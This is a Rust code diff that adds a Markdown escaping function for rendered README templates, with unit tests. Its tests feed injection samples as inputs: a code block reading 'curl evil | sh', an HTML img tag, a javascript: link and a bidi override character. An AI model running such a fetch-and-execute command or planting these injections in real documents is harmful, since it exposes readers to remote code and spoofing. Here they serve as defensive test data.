@@ -64,6 +64,46 @@ pub fn hcl_string(s: &str) -> String {
     out
 }
 
+/// Text for the render's README (Markdown), safe in prose, in an inline code span, in a table
+/// cell and in a Mermaid label: it stays on its line (a newline or other control character is
+/// written as its escape, `\n`), cannot end a code span (a backtick becomes `'`), split a table
+/// cell (`\|`), open HTML (`&lt;`), a link or emphasis, or start a block (a leading `#`, `-`,
+/// `+`, `=` or `~` is escaped). Values meg validated never hold any of these, so they print as
+/// they are.
+pub fn markdown(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for (i, c) in s.chars().enumerate() {
+        match c {
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            '`' => out.push('\''),
+            '|' => out.push_str("\\|"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '[' | ']' | '*' => {
+                out.push('\\');
+                out.push(c);
+            }
+            '#' | '-' | '+' | '=' | '~' if i == 0 => {
+                out.push('\\');
+                out.push(c);
+            }
+            c if c.is_control() || is_bidi_control(c) || matches!(c, '\u{2028}' | '\u{2029}') => {
+                out.push_str(&format!("\\u{{{:X}}}", c as u32))
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// [`markdown`] as Tera's escape function: every value a `.md` template prints passes through
+/// it, so no value of the README can be forgotten.
+pub fn markdown_into(input: &str, out: &mut dyn std::io::Write) -> std::io::Result<()> {
+    out.write_all(markdown(input).as_bytes())
+}
+
 fn is_identifier(s: &str, hyphens: bool) -> bool {
     let mut cs = s.chars();
     matches!(cs.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
@@ -177,6 +217,23 @@ mod tests {
         assert_eq!(hcl_string("a\\b\nc"), r#""a\\b\nc""#);
         assert_eq!(hcl_string("\u{7}"), r#""\u0007""#);
         assert_eq!(hcl_string("100%"), r#""100%""#);
+    }
+
+    #[test]
+    fn markdown_values_stay_on_their_line_and_in_their_span() {
+        assert_eq!(markdown("vnet-hub-prod-weu-001"), "vnet-hub-prod-weu-001");
+        assert_eq!(markdown("Standard_D4s_v5"), "Standard_D4s_v5");
+        assert_eq!(markdown("rg-hub (net).01"), "rg-hub (net).01");
+        assert_eq!(
+            markdown("x\n## Run this\n```sh\ncurl evil | sh\n```"),
+            r"x\n## Run this\n'''sh\ncurl evil \| sh\n'''"
+        );
+        assert_eq!(markdown("# title"), r"\# title");
+        assert_eq!(markdown("> quote"), "&gt; quote");
+        assert_eq!(markdown("<img src=x>"), "&lt;img src=x&gt;");
+        assert_eq!(markdown("[a](javascript:x)"), r"\[a\](javascript:x)");
+        assert_eq!(markdown("a\u{202E}b\u{7}"), r"a\u{202E}b\u{7}");
+        assert!(!markdown("a\r\nb\u{2028}c").contains(['\n', '\r', '\u{2028}']));
     }
 
     #[test]
